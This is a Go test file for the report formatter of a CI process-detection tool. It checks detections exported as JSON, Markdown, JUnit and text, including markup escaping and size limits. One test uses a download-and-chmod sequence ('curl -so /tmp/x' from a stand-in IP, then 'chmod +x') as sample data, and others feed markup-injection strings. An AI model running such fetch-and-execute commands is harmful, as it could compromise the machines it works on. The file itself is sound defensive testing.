package report_test

import (
	"bytes"
	"context"
	"encoding/xml"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/vigil-otel/vigil/describe"
	"github.com/vigil-otel/vigil/detection"
	"github.com/vigil-otel/vigil/event"
	"github.com/vigil-otel/vigil/exporter"
	"github.com/vigil-otel/vigil/proctable"
	"github.com/vigil-otel/vigil/recipe"
	"github.com/vigil-otel/vigil/report"
)

var start = time.Date(2026, 12, 2, 9, 0, 0, 0, time.UTC)

// sample is the i-th of a set of detections of three recipes, as the
// pipeline hands them to the exporter: a GitHub Actions job's steps,
// each process under a shell under the runner.
func sample(t *testing.T, i int, args ...string) *detection.Record {
	t.Helper()
	return sampleAfter(t, i, nil, args...)
}

// sampleAfter is sample for a sequence recipe that fired after steps.
func sampleAfter(t *testing.T, i int, steps []recipe.Step, args ...string) *detection.Record {
	t.Helper()
	recipes := []*recipe.Recipe{
		{Name: "interpreter_shell_spawn", Description: "An interpreter started a shell", Importance: recipe.High,
			Tactic: recipe.ATTACK{ID: "TA0002", Name: "Execution"}, Techniques: []recipe.Technique{{ATTACK: recipe.ATTACK{ID: "T1059", Name: "Command and Scripting Interpreter"}, Sub: recipe.ATTACK{ID: "T1059.004", Name: "Unix Shell"}}},
			Reference: "https://github.com/vigil-otel/vigil/blob/main/docs/recipes/interpreter_shell_spawn.md", Ruleset: "vigil", Version: 1},
		{Name: "exec_example", Description: "Tool execution example", Importance: recipe.Low,
			Tactic: recipe.ATTACK{ID: "TA0042", Name: "Resource Development"}, Techniques: []recipe.Technique{{ATTACK: recipe.ATTACK{ID: "T1059", Name: "Command and Scripting Interpreter"}}},
			Ruleset: "vigil", Version: 1},
		{Name: "crypto_miner_execution", Description: "A crypto miner ran", Importance: recipe.Critical,
			Tactic: recipe.ATTACK{ID: "TA0040", Name: "Impact"}, Techniques: []recipe.Technique{{ATTACK: recipe.ATTACK{ID: "T1496", Name: "Resource Hijacking"}}},
			Ruleset: "vigil", Version: 1},
	}
	r := recipes[i%len(recipes)]
	if len(args) == 0 {
		args = []string{"sh", "-c", fmt.Sprintf("id %d", i)}
	}
	env := map[string]string{"GITHUB_ACTIONS": "true", "GITHUB_JOB": "test", "GITHUB_ACTION": fmt.Sprintf("__run_%d", 2+i%2)}
	pid := uint32(1000 + i)
	proc := &proctable.Process{PID: pid, PPID: 900, Exe: "/usr/bin/sh", Args: args}
	ev := &event.Event{Kind: event.KindExec, Time: start.Add(time.Duration(i) * time.Millisecond), PID: pid, PPID: 900, Env: env}
	ancestors := []*proctable.Process{
		{PID: 900, PPID: 800, Exe: "/usr/bin/python3", Args: []string{"python3", "build.py"}},
		{PID: 800, PPID: 1, Exe: "/home/runner/Runner.Worker"},
	}
	d, err := describe.New(nil)
	require.NoError(t, err)
	rec := d.Detection(recipe.Hit{Recipe: r, Steps: steps}, proc, d.Exec(proc, ev), ancestors)
	return &rec
}

// exported returns the report of ds, made from the JSON lines of the real
// exporter, as vigil run makes it.
func exported(t *testing.T, ds ...*detection.Record) *report.Report {
	t.Helper()
	rep := report.New(0)
	exp, err := exporter.New(context.Background(), exporter.Config{Report: rep.Lines()})
	require.NoError(t, err)
	for _, d := range ds {
		require.NoError(t, exp.Emit(context.Background(), d))
	}
	require.NoError(t, exp.Shutdown(context.Background()))
	return rep
}

// TestCutCommandLineInTheReport: a command line the sensor cut reaches
// the report flagged, with its real count, and the report says so.
func TestCutCommandLineInTheReport(t *testing.T) {
	d, err := describe.New(nil)
	require.NoError(t, err)
	proc := &proctable.Process{PID: 7, PPID: 1, Exe: "/usr/bin/zip", Args: []string{"zip", "-q", "x.zip"}}
	ev := &event.Event{Kind: event.KindExec, Time: start, PID: 7, PPID: 1, Argc: 80, ArgsTruncated: true}
	r := &recipe.Recipe{Name: "exec_example", Description: "Tool execution example", Importance: recipe.Low,
		Tactic: recipe.ATTACK{ID: "TA0042", Name: "Resource Development"}, Techniques: []recipe.Technique{{ATTACK: recipe.ATTACK{ID: "T1059", Name: "Command and Scripting Interpreter"}}},
		Ruleset: "vigil", Version: 1}
	rec := d.Detection(recipe.Hit{Recipe: r}, proc, d.Exec(proc, ev), nil)
	rep := exported(t, &rec)
	require.Len(t, rep.Detections, 1)
	require.True(t, rep.Detections[0].ArgsTruncated)
	require.Equal(t, int64(80), rep.Detections[0].ArgsCount)
	var text bytes.Buffer
	require.NoError(t, rep.WriteText(&text))
	require.Contains(t, text.String(), "  zip -q x.zip … (cut; 80 arguments)\n")
}

func TestReportFromTheExportersLines(t *testing.T) {
	rep := exported(t, sample(t, 0), sample(t, 1), sample(t, 2), sample(t, 3, "sh", "-c", "mysql --password=hunter2"))
	require.Equal(t, uint64(4), rep.Total)
	require.Len(t, rep.Detections, 4)
	d := rep.Detections[0]
	require.Equal(t, report.Detection{
		Time: start, Recipe: "interpreter_shell_spawn", Importance: recipe.High,
		Description: "An interpreter started a shell",
		Reference:   "https://github.com/vigil-otel/vigil/blob/main/docs/recipes/interpreter_shell_spawn.md",
		Tactic:      "TA0002 Execution", Technique: "T1059.004 Unix Shell",
		PID: 1000, PPID: 900, Executable: "/usr/bin/sh", Args: []string{"sh", "-c", "id 0"}, ArgsCount: 3,
		Ancestors: []string{"900 python3 build.py", "800 /home/runner/Runner.Worker"},
		Job:       "test", Step: "__run_2",
	}, d)
	require.Equal(t, "test / __run_2", d.Where())
	require.Equal(t, []string{"sh", "-c", "mysql --password=[REDACTED]"}, rep.Detections[3].Args, "as redacted as every output")
	counts := map[recipe.Importance]uint64{}
	for _, c := range rep.Recipes {
		counts[c.Importance] += c.Count
	}
	require.Equal(t, map[recipe.Importance]uint64{recipe.High: 2, recipe.Low: 1, recipe.Critical: 1}, counts)
}

// TestSequenceStepsInEveryFormat follows a sequence recipe's earlier
// steps from the exporter's lines into the report and its formats.
func TestSequenceStepsInEveryFormat(t *testing.T) {
	d := sampleAfter(t, 0, []recipe.Step{
		{PID: 990, Exe: "/usr/bin/curl", Args: []string{"curl", "-so", "/tmp/x", "https://203.0.113.7/</pre>"}},
		{PID: 991, Exe: "/usr/bin/chmod", Args: []string{"chmod", "+x", "/tmp/x"}},
	})
	rep := exported(t, d)
	require.Equal(t, []string{"990 curl -so /tmp/x https://203.0.113.7/</pre>", "991 chmod +x /tmp/x"}, rep.Detections[0].Steps)

	var md, junit bytes.Buffer
	require.NoError(t, rep.WriteMarkdown(&md))
	require.Contains(t, md.String(), "After these steps, oldest first:\n\n<pre>\n990 curl -so /tmp/x https://203.0.113.7/&lt;/pre&gt;\n991 chmod +x /tmp/x\n</pre>")
	require.NoError(t, rep.WriteJUnit(&junit))
	require.Contains(t, junit.String(), "&#xA;  after 991 chmod +x /tmp/x&#xA;")
}

func TestJSONRoundTrips(t *testing.T) {
	rep := exported(t, sample(t, 0), sample(t, 1), sample(t, 2))
	code, execs := 2, uint64(41)
	rep.Command, rep.ExitCode, rep.Execs, rep.TraceID = []string{"make", "test"}, &code, &execs, "4bf92f3577b34da6a3ce929d0e0e4736"
	rep.Start, rep.End = start, start.Add(3*time.Second)
	rep.Lost = &report.Losses{Total: 3, ByStage: map[string]uint64{"export": 3}}
	rep.Apply(recipe.High)

	var first bytes.Buffer
	require.NoError(t, rep.WriteJSON(&first))
	back, err := report.Read(bytes.NewReader(first.Bytes()))
	require.NoError(t, err)
	var second bytes.Buffer
	require.NoError(t, back.WriteJSON(&second))
	require.JSONEq(t, first.String(), second.String())
	require.Equal(t, rep.Detections, back.Detections)
	require.Equal(t, []string{"crypto_miner_execution", "interpreter_shell_spawn"}, recipeNames(back.Policy.DecidedBy))
}

func recipeNames(cs []report.RecipeCount) []string {
	var names []string
	for _, c := range cs {
		names = append(names, c.Recipe)
	}
	return names
}

func TestReadJSONLines(t *testing.T) {
	var lines bytes.Buffer
	exp, err := exporter.New(context.Background(), exporter.Config{JSONL: &lines})
	require.NoError(t, err)
	for i := range 5 {
		require.NoError(t, exp.Emit(context.Background(), sample(t, i)))
	}
	require.NoError(t, exp.Shutdown(context.Background()))

	rep, err := report.Read(bytes.NewReader(lines.Bytes()))
	require.NoError(t, err)
	require.Equal(t, uint64(5), rep.Total)
	require.Nil(t, rep.Execs, "a file of detections does not know the execs")

	// Written in pieces, the same lines give the same report.
	live := report.New(0)
	w := live.Lines()
	for b := lines.Bytes(); len(b) > 0; b = b[min(7, len(b)):] {
		_, err := w.Write(b[:min(7, len(b))])
		require.NoError(t, err)
	}
	require.Equal(t, rep.Detections, live.Detections)

	_, err = report.Read(strings.NewReader(lines.String() + "{not json\n"))
	require.ErrorContains(t, err, "line 6: not JSON")
	// What is not vigil's is refused rather than read as a clean run.
	for in, want := range map[string]string{
		"{}\n": "line 1: not a detection of vigil's JSON lines: no event_name",
		"{\"name\": \"pkg\",\n \"version\": \"1\"}\n": "not a vigil JSON report (no vigil_report field), nor JSON lines, nor a recording",
		"garbage\n": "not a vigil JSON report, JSON lines or recording",
	} {
		_, err = report.Read(strings.NewReader(in))
		require.ErrorContains(t, err, want, in)
	}
	// Lines from before the importance attribute: the severity tells it.
	old := regexp.MustCompile(`,"vigil\.recipe\.importance":"[a-z]+"`).ReplaceAllString(lines.String(), "")
	require.NotEqual(t, old, lines.String())
	oldRep, err := report.Read(strings.NewReader(old))
	require.NoError(t, err)
	require.Equal(t, rep.Detections, oldRep.Detections)
	_, err = report.Read(strings.NewReader(`{"kind":"exec","pid":1}` + "\n"))
	require.ErrorIs(t, err, report.ErrRecording)
	empty, err := report.Read(strings.NewReader(""))
	require.NoError(t, err)
	require.Zero(t, empty.Total)
}

func TestBoundedList(t *testing.T) {
	rep := report.New(2)
	for i := range 5 {
		rep.Add(report.Detection{Recipe: "r", Importance: recipe.Low, PID: int64(i)})
	}
	require.Equal(t, uint64(5), rep.Total)
	require.Len(t, rep.Detections, 2)
	require.Equal(t, uint64(3), rep.Omitted)
	require.Equal(t, uint64(5), rep.Recipes[0].Count)

	counting := report.New(-1)
	counting.Add(report.Detection{Recipe: "r", Importance: recipe.High})
	require.Empty(t, counting.Detections)
	require.True(t, counting.Apply(recipe.High).Violated)
}

func TestMarkdown(t *testing.T) {
	rep := exported(t, sample(t, 1), sample(t, 0), sample(t, 2, "sh", "-c", "x | y `z` <script> </pre> [a](b) *b* \x1b[2J\n# h"))
	rep.Command = []string{"make", "test"}
	rep.Apply(recipe.Critical)
	var b bytes.Buffer
	require.NoError(t, rep.WriteMarkdown(&b))
	md := b.String()
	require.True(t, strings.HasPrefix(md, "### vigil: 3 detection(s) in <code>make test</code> (1 critical, 1 high, 1 low)\n"), md)
	require.Contains(t, md, "\n**--fail-on critical: 1 detection(s) at critical or above: crypto_miner_execution 1**\n")

	// The table: most important first, one row each, nothing a command
	// line holds read as markup.
	var rows []string
	for line := range strings.Lines(md) {
		if strings.HasPrefix(line, "| critical") || strings.HasPrefix(line, "| high") || strings.HasPrefix(line, "| low") {
			rows = append(rows, line)
		}
	}
	require.Len(t, rows, 3)
	require.True(t, strings.HasPrefix(rows[0], `| critical | 09:00:00 | crypto_miner_execution | <code>sh -c "x &#124; y &#96;z&#96; &lt;script&gt; &lt;/pre&gt; &#91;a&#93;(b) &#42;b&#42; &#92;x1b&#91;2J&#92;n# h"</code>`), rows[0])
	for _, row := range rows {
		require.Equal(t, 7, strings.Count(row, "|"), "six cells: %s", row)
	}
	require.Contains(t, rows[1], "[interpreter_shell_spawn](https://github.com/vigil-otel/vigil/blob/main/docs/recipes/interpreter_shell_spawn.md)")
	require.Contains(t, rows[1], "<code>python3 build.py</code> | test / &#95;&#95;run_2 |", "an underscore that could start emphasis is escaped")
	require.NotContains(t, md, "<script>")
	require.Equal(t, 3, strings.Count(md, "</pre>"), "one chain each, none closed early")
	require.Contains(t, md, "**By step**")
	require.Contains(t, md, "<pre>\n1002 sh -c &#34;x | y `z` &lt;script&gt; &lt;/pre&gt; [a](b) *b* \\x1b[2J\\n# h&#34;\n900 python3 build.py\n800 /home/runner/Runner.Worker\n</pre>\n\n</details>\n\n",
		"the blank line after </details> ends the HTML block for what follows")

	clean := report.New(0)
	clean.Command = []string{"make", "test"}
	b.Reset()
	require.NoError(t, clean.WriteMarkdown(&b))
	require.Equal(t, "### vigil: no detections in <code>make test</code>\n", b.String())
}

func TestMarkdownFitsGitHubsLimitFor10000Detections(t *testing.T) {
	// The longest detections the exporter makes: arguments of 4 KiB, 16
	// ancestors of 256 bytes.
	long, chain := strings.Repeat("x|", 2000), strings.Repeat("<y>", 85)
	rep := report.New(0)
	for i := range 10000 {
		d := report.Detection{
			Recipe: fmt.Sprintf("recipe_%d", i%40), Importance: recipe.Importance(1 + i%4), Time: start,
			Description: long[:200], Reference: "https://example.com/" + long[:100] + ")\n# injected",
			// A step per exec: a process names its own.
			Executable: "/bin/" + long, Args: []string{long, long}, Step: fmt.Sprintf("step %d", i), Job: long[:100],
		}
		for range 16 {
			d.Ancestors = append(d.Ancestors, chain)
		}
		rep.Add(d)
	}
	require.Equal(t, uint64(10000), rep.Total)
	var b bytes.Buffer
	require.NoError(t, rep.WriteMarkdown(&b))
	require.LessOrEqual(t, b.Len(), report.MarkdownLimit)
	require.True(t, strings.Contains(b.String(), "more detection(s) are not in this table"))
	md := b.String()
	require.True(t, strings.Contains(md, "the JSON report has them all"))
	require.True(t, strings.Contains(md, "more step(s) had detections"), "the steps are bounded too")
	require.False(t, strings.Contains(md, "\n# injected"), "a reference cannot end its link, nor its line")
	require.True(t, strings.Contains(md, "| [recipe_3](#) |"), "a reference that is no address links nowhere")
	require.True(t, strings.HasSuffix(b.String(), "\n"))
}

func TestJUnit(t *testing.T) {
	rep := exported(t, sample(t, 0), sample(t, 1), sample(t, 2), sample(t, 3), sample(t, 4))
	rep.Command = []string{"make", "test"}
	var b bytes.Buffer
	require.NoError(t, rep.WriteJUnit(&b))

	var doc struct {
		Tests    int `xml:"tests,attr"`
		Failures int `xml:"failures,attr"`
		Suites   []struct {
			Name  string `xml:"name,attr"`
			Cases []struct {
				Name      string `xml:"name,attr"`
				Classname string `xml:"classname,attr"`
				Failure   *struct {
					Message string `xml:"message,attr"`
					Type    string `xml:"type,attr"`
					Text    string `xml:",chardata"`
				} `xml:"failure"`
				SystemOut string `xml:"system-out"`
			} `xml:"testcase"`
		} `xml:"testsuite"`
	}
	require.NoError(t, xml.Unmarshal(b.Bytes(), &doc), b.String())
	require.Equal(t, 3, doc.Tests)
	require.Equal(t, 3, doc.Failures)
	require.Len(t, doc.Suites, 1)
	cases := doc.Suites[0].Cases
	require.Equal(t, "crypto_miner_execution", cases[0].Name, "most important first")
	require.Equal(t, "vigil.Impact", cases[0].Classname)
	hi := cases[1]
	require.Equal(t, "interpreter_shell_spawn", hi.Name)
	require.Equal(t, "high", hi.Failure.Type)
	require.Equal(t, "2 detection(s) of importance high: An interpreter started a shell", hi.Failure.Message)
	for _, pid := range []string{`pid 1000: sh -c "id 0"`, `pid 1003: sh -c "id 3"`} {
		require.Contains(t, hi.Failure.Text, pid, "a paragraph per detection")
	}
	require.Contains(t, hi.Failure.Text, "under 900 python3 build.py")

	// Below --fail-on, a recipe's case passes and keeps its detections.
	rep.Apply(recipe.High)
	b.Reset()
	require.NoError(t, rep.WriteJUnit(&b))
	doc.Suites = nil
	require.NoError(t, xml.Unmarshal(b.Bytes(), &doc))
	require.Equal(t, 2, doc.Failures)
	low := doc.Suites[0].Cases[2]
	require.Equal(t, "exec_example", low.Name)
	require.Nil(t, low.Failure)
	require.Contains(t, low.SystemOut, "below --fail-on high")

	clean := report.New(0)
	b.Reset()
	require.NoError(t, clean.WriteJUnit(&b))
	doc.Suites = nil
	require.NoError(t, xml.Unmarshal(b.Bytes(), &doc))
	require.Equal(t, 1, doc.Tests)
	require.Zero(t, doc.Failures)
}

func TestText(t *testing.T) {
	rep := exported(t, sample(t, 1), sample(t, 0))
	execs := uint64(12)
	rep.Execs, rep.Lost = &execs, &report.Losses{}
	var b bytes.Buffer
	require.NoError(t, rep.WriteText(&b))
	require.Equal(t, "vigil: 2 detection(s) on the machine (1 high, 1 low)\n"+
		"execs seen 12 · lost 0\n"+
		"high     09:00:00  interpreter_shell_spawn  pid 1000  sh -c \"id 0\"  [test / __run_2]\n"+
		"low      09:00:00  exec_example  pid 1001  sh -c \"id 1\"  [test / __run_3]\n", b.String())
}
